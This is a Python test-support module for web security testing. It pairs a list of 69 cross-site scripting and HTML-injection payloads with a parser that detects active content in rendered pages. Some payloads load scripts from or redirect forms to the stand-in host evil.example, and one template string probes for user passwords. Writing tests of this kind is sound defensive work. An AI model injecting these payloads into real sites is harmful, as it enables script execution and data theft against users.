"""Texts that want to be more than texts, and what a page looks like in which one got its way."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

ATTACKS = [
    # Elements.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "<script\x0d\x0a>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<img srcset=//evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<form action=//evil.example/><button>Submit</button></form>",
    "<button form=ranking-form formaction=//evil.example/>Submit</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x hx-get=//evil.example/ hx-trigger=load>",
    "<div hx-on:click=alert(1) hx-trigger=load>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    # Out of an attribute.
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    # Markdown and formulas.
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![a](javascript:alert(1))",
    "![a](//evil.example/x.png)",
    '[a](https://e.example/" onclick="alert(1))',
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    # Templates, encodings, signs that nobody sees.
    "{{ 7 * 7 }}{% debug %}{{ request.user.password }}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt; \\u003cscript\\u003e",
    "\u202e<script>\u2066alert(1)\x07\x1b</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2028<script>",
]
"""Sixty-nine of them. Where each has to be found again, `marked` says which one it was."""

URLS = set("href src srcset action formaction xlink:href data poster background".split())
SCRIPTED = {"hx-get", "hx-post", "hx-put", "hx-delete", "hx-patch"}
NEVER = set("iframe object embed base frame applet style marquee video audio".split())


def mark(number: int) -> str:
    """What stands in the page wherever attack `number` was shown."""
    return f"zq{number}qz"


def marked(*, longest: int = 10_000) -> list[str]:
    """The attacks, each with its mark at its end; those that fit in so many characters."""
    texts = [f"{attack} {mark(number)}" for number, attack in enumerate(ATTACKS)]
    return [text for text in texts if len(text) <= longest]


class Page(HTMLParser):
    """What is active in a page, a sentence each."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name.lower(): value or "" for name, value in attrs}
        self.in_script = tag == "script" and values.get("type") != "application/json"
        if tag in NEVER:
            self.problems.append(f"<{tag}> {values}")
        if self.in_script and not values.get("src", "").startswith("/static/"):
            self.problems.append(f"a script that is not ours: {values}")
        if tag == "link" and not values.get("href", "").startswith("/static/"):
            self.problems.append(f"a link to elsewhere: {values}")
        if tag == "meta" and "http-equiv" in values and not values.get("content", "").isdigit():
            self.problems.append(f"<meta http-equiv> {values}")
        if tag == "img":
            self.problems.append(f"an image: {values}")
        for name, value in values.items():
            if name.startswith(("on", "hx-on")) or name in {"style", "srcdoc"}:
                self.problems.append(f"{tag} {name}={value[:80]!r}")
            if name in URLS | SCRIPTED and not self.leads_to_a_place(tag, name, value):
                self.problems.append(f"{tag} {name}={value[:80]!r}")

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.problems.append(f"an inline script: {data[:80]!r}")

    def handle_endtag(self, tag: str) -> None:
        self.in_script = False

    @staticmethod
    def leads_to_a_place(tag: str, name: str, value: str) -> bool:
        """Our own address, or, for a link that a person may follow, one of the web."""
        target = urlsplit("".join(value.split()))
        if target.scheme or target.netloc:
            return tag == "a" and name == "href" and target.scheme in {"http", "https"}
        return True


def active(html: str) -> list[str]:
    """What in a page does more than be read and lead to our own addresses."""
    return Page(html).problems
